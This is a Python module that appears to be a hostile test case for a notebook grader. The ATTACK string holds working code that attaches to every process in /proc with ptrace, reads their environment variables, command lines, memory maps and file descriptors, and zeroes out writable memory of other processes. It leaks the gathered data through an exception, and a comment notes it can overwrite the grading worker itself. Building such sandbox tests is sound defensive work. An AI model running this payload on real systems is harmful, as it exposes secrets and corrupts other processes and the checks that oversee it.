"""Look into other processes: their memory, environment, files and calls."""

from assignments.hostile import first, replaced

ATTACK = """
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
WORDS = (b"BEGIN HIDDEN", b"check_initializer")

def attack(*arguments, **options):
    seen = []
    for folder in glob.glob("/proc/[0-9]*"):
        process = int(folder[6:])
        libc.ptrace(16, process, 0, 0)
        buffer = ctypes.create_string_buffer(64)
        libc.process_vm_readv(process, buffer, 1, buffer, 1, 0)
        for name in ("environ", "cmdline", "maps", "mountinfo", "syscall", "stack"):
            try:
                seen.append(open(f"{folder}/{name}", "rb").read())
            except OSError:
                pass
        for link in glob.glob(f"{folder}/fd/*") + [f"{folder}/cwd", f"{folder}/exe"]:
            try:
                seen.append(os.readlink(link).encode())
            except OSError:
                pass
        try:
            with open(f"{folder}/mem", "r+b", 0) as memory:
                for line in open(f"{folder}/maps"):
                    begin, end = (int(n, 16) for n in line.split()[0].split("-"))
                    if " rw" in line and end - begin < 10**8 and process != os.getpid():
                        memory.seek(begin)
                        memory.write(bytes(min(end - begin, 4096)))
        except OSError:
            pass
    raise ValueError(b" ".join(seen)[:300])
"""
EXPECTED = "at most"  # it can overwrite the worker, and so its own later answers


def spoil(notebook, honest):
    """Look before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
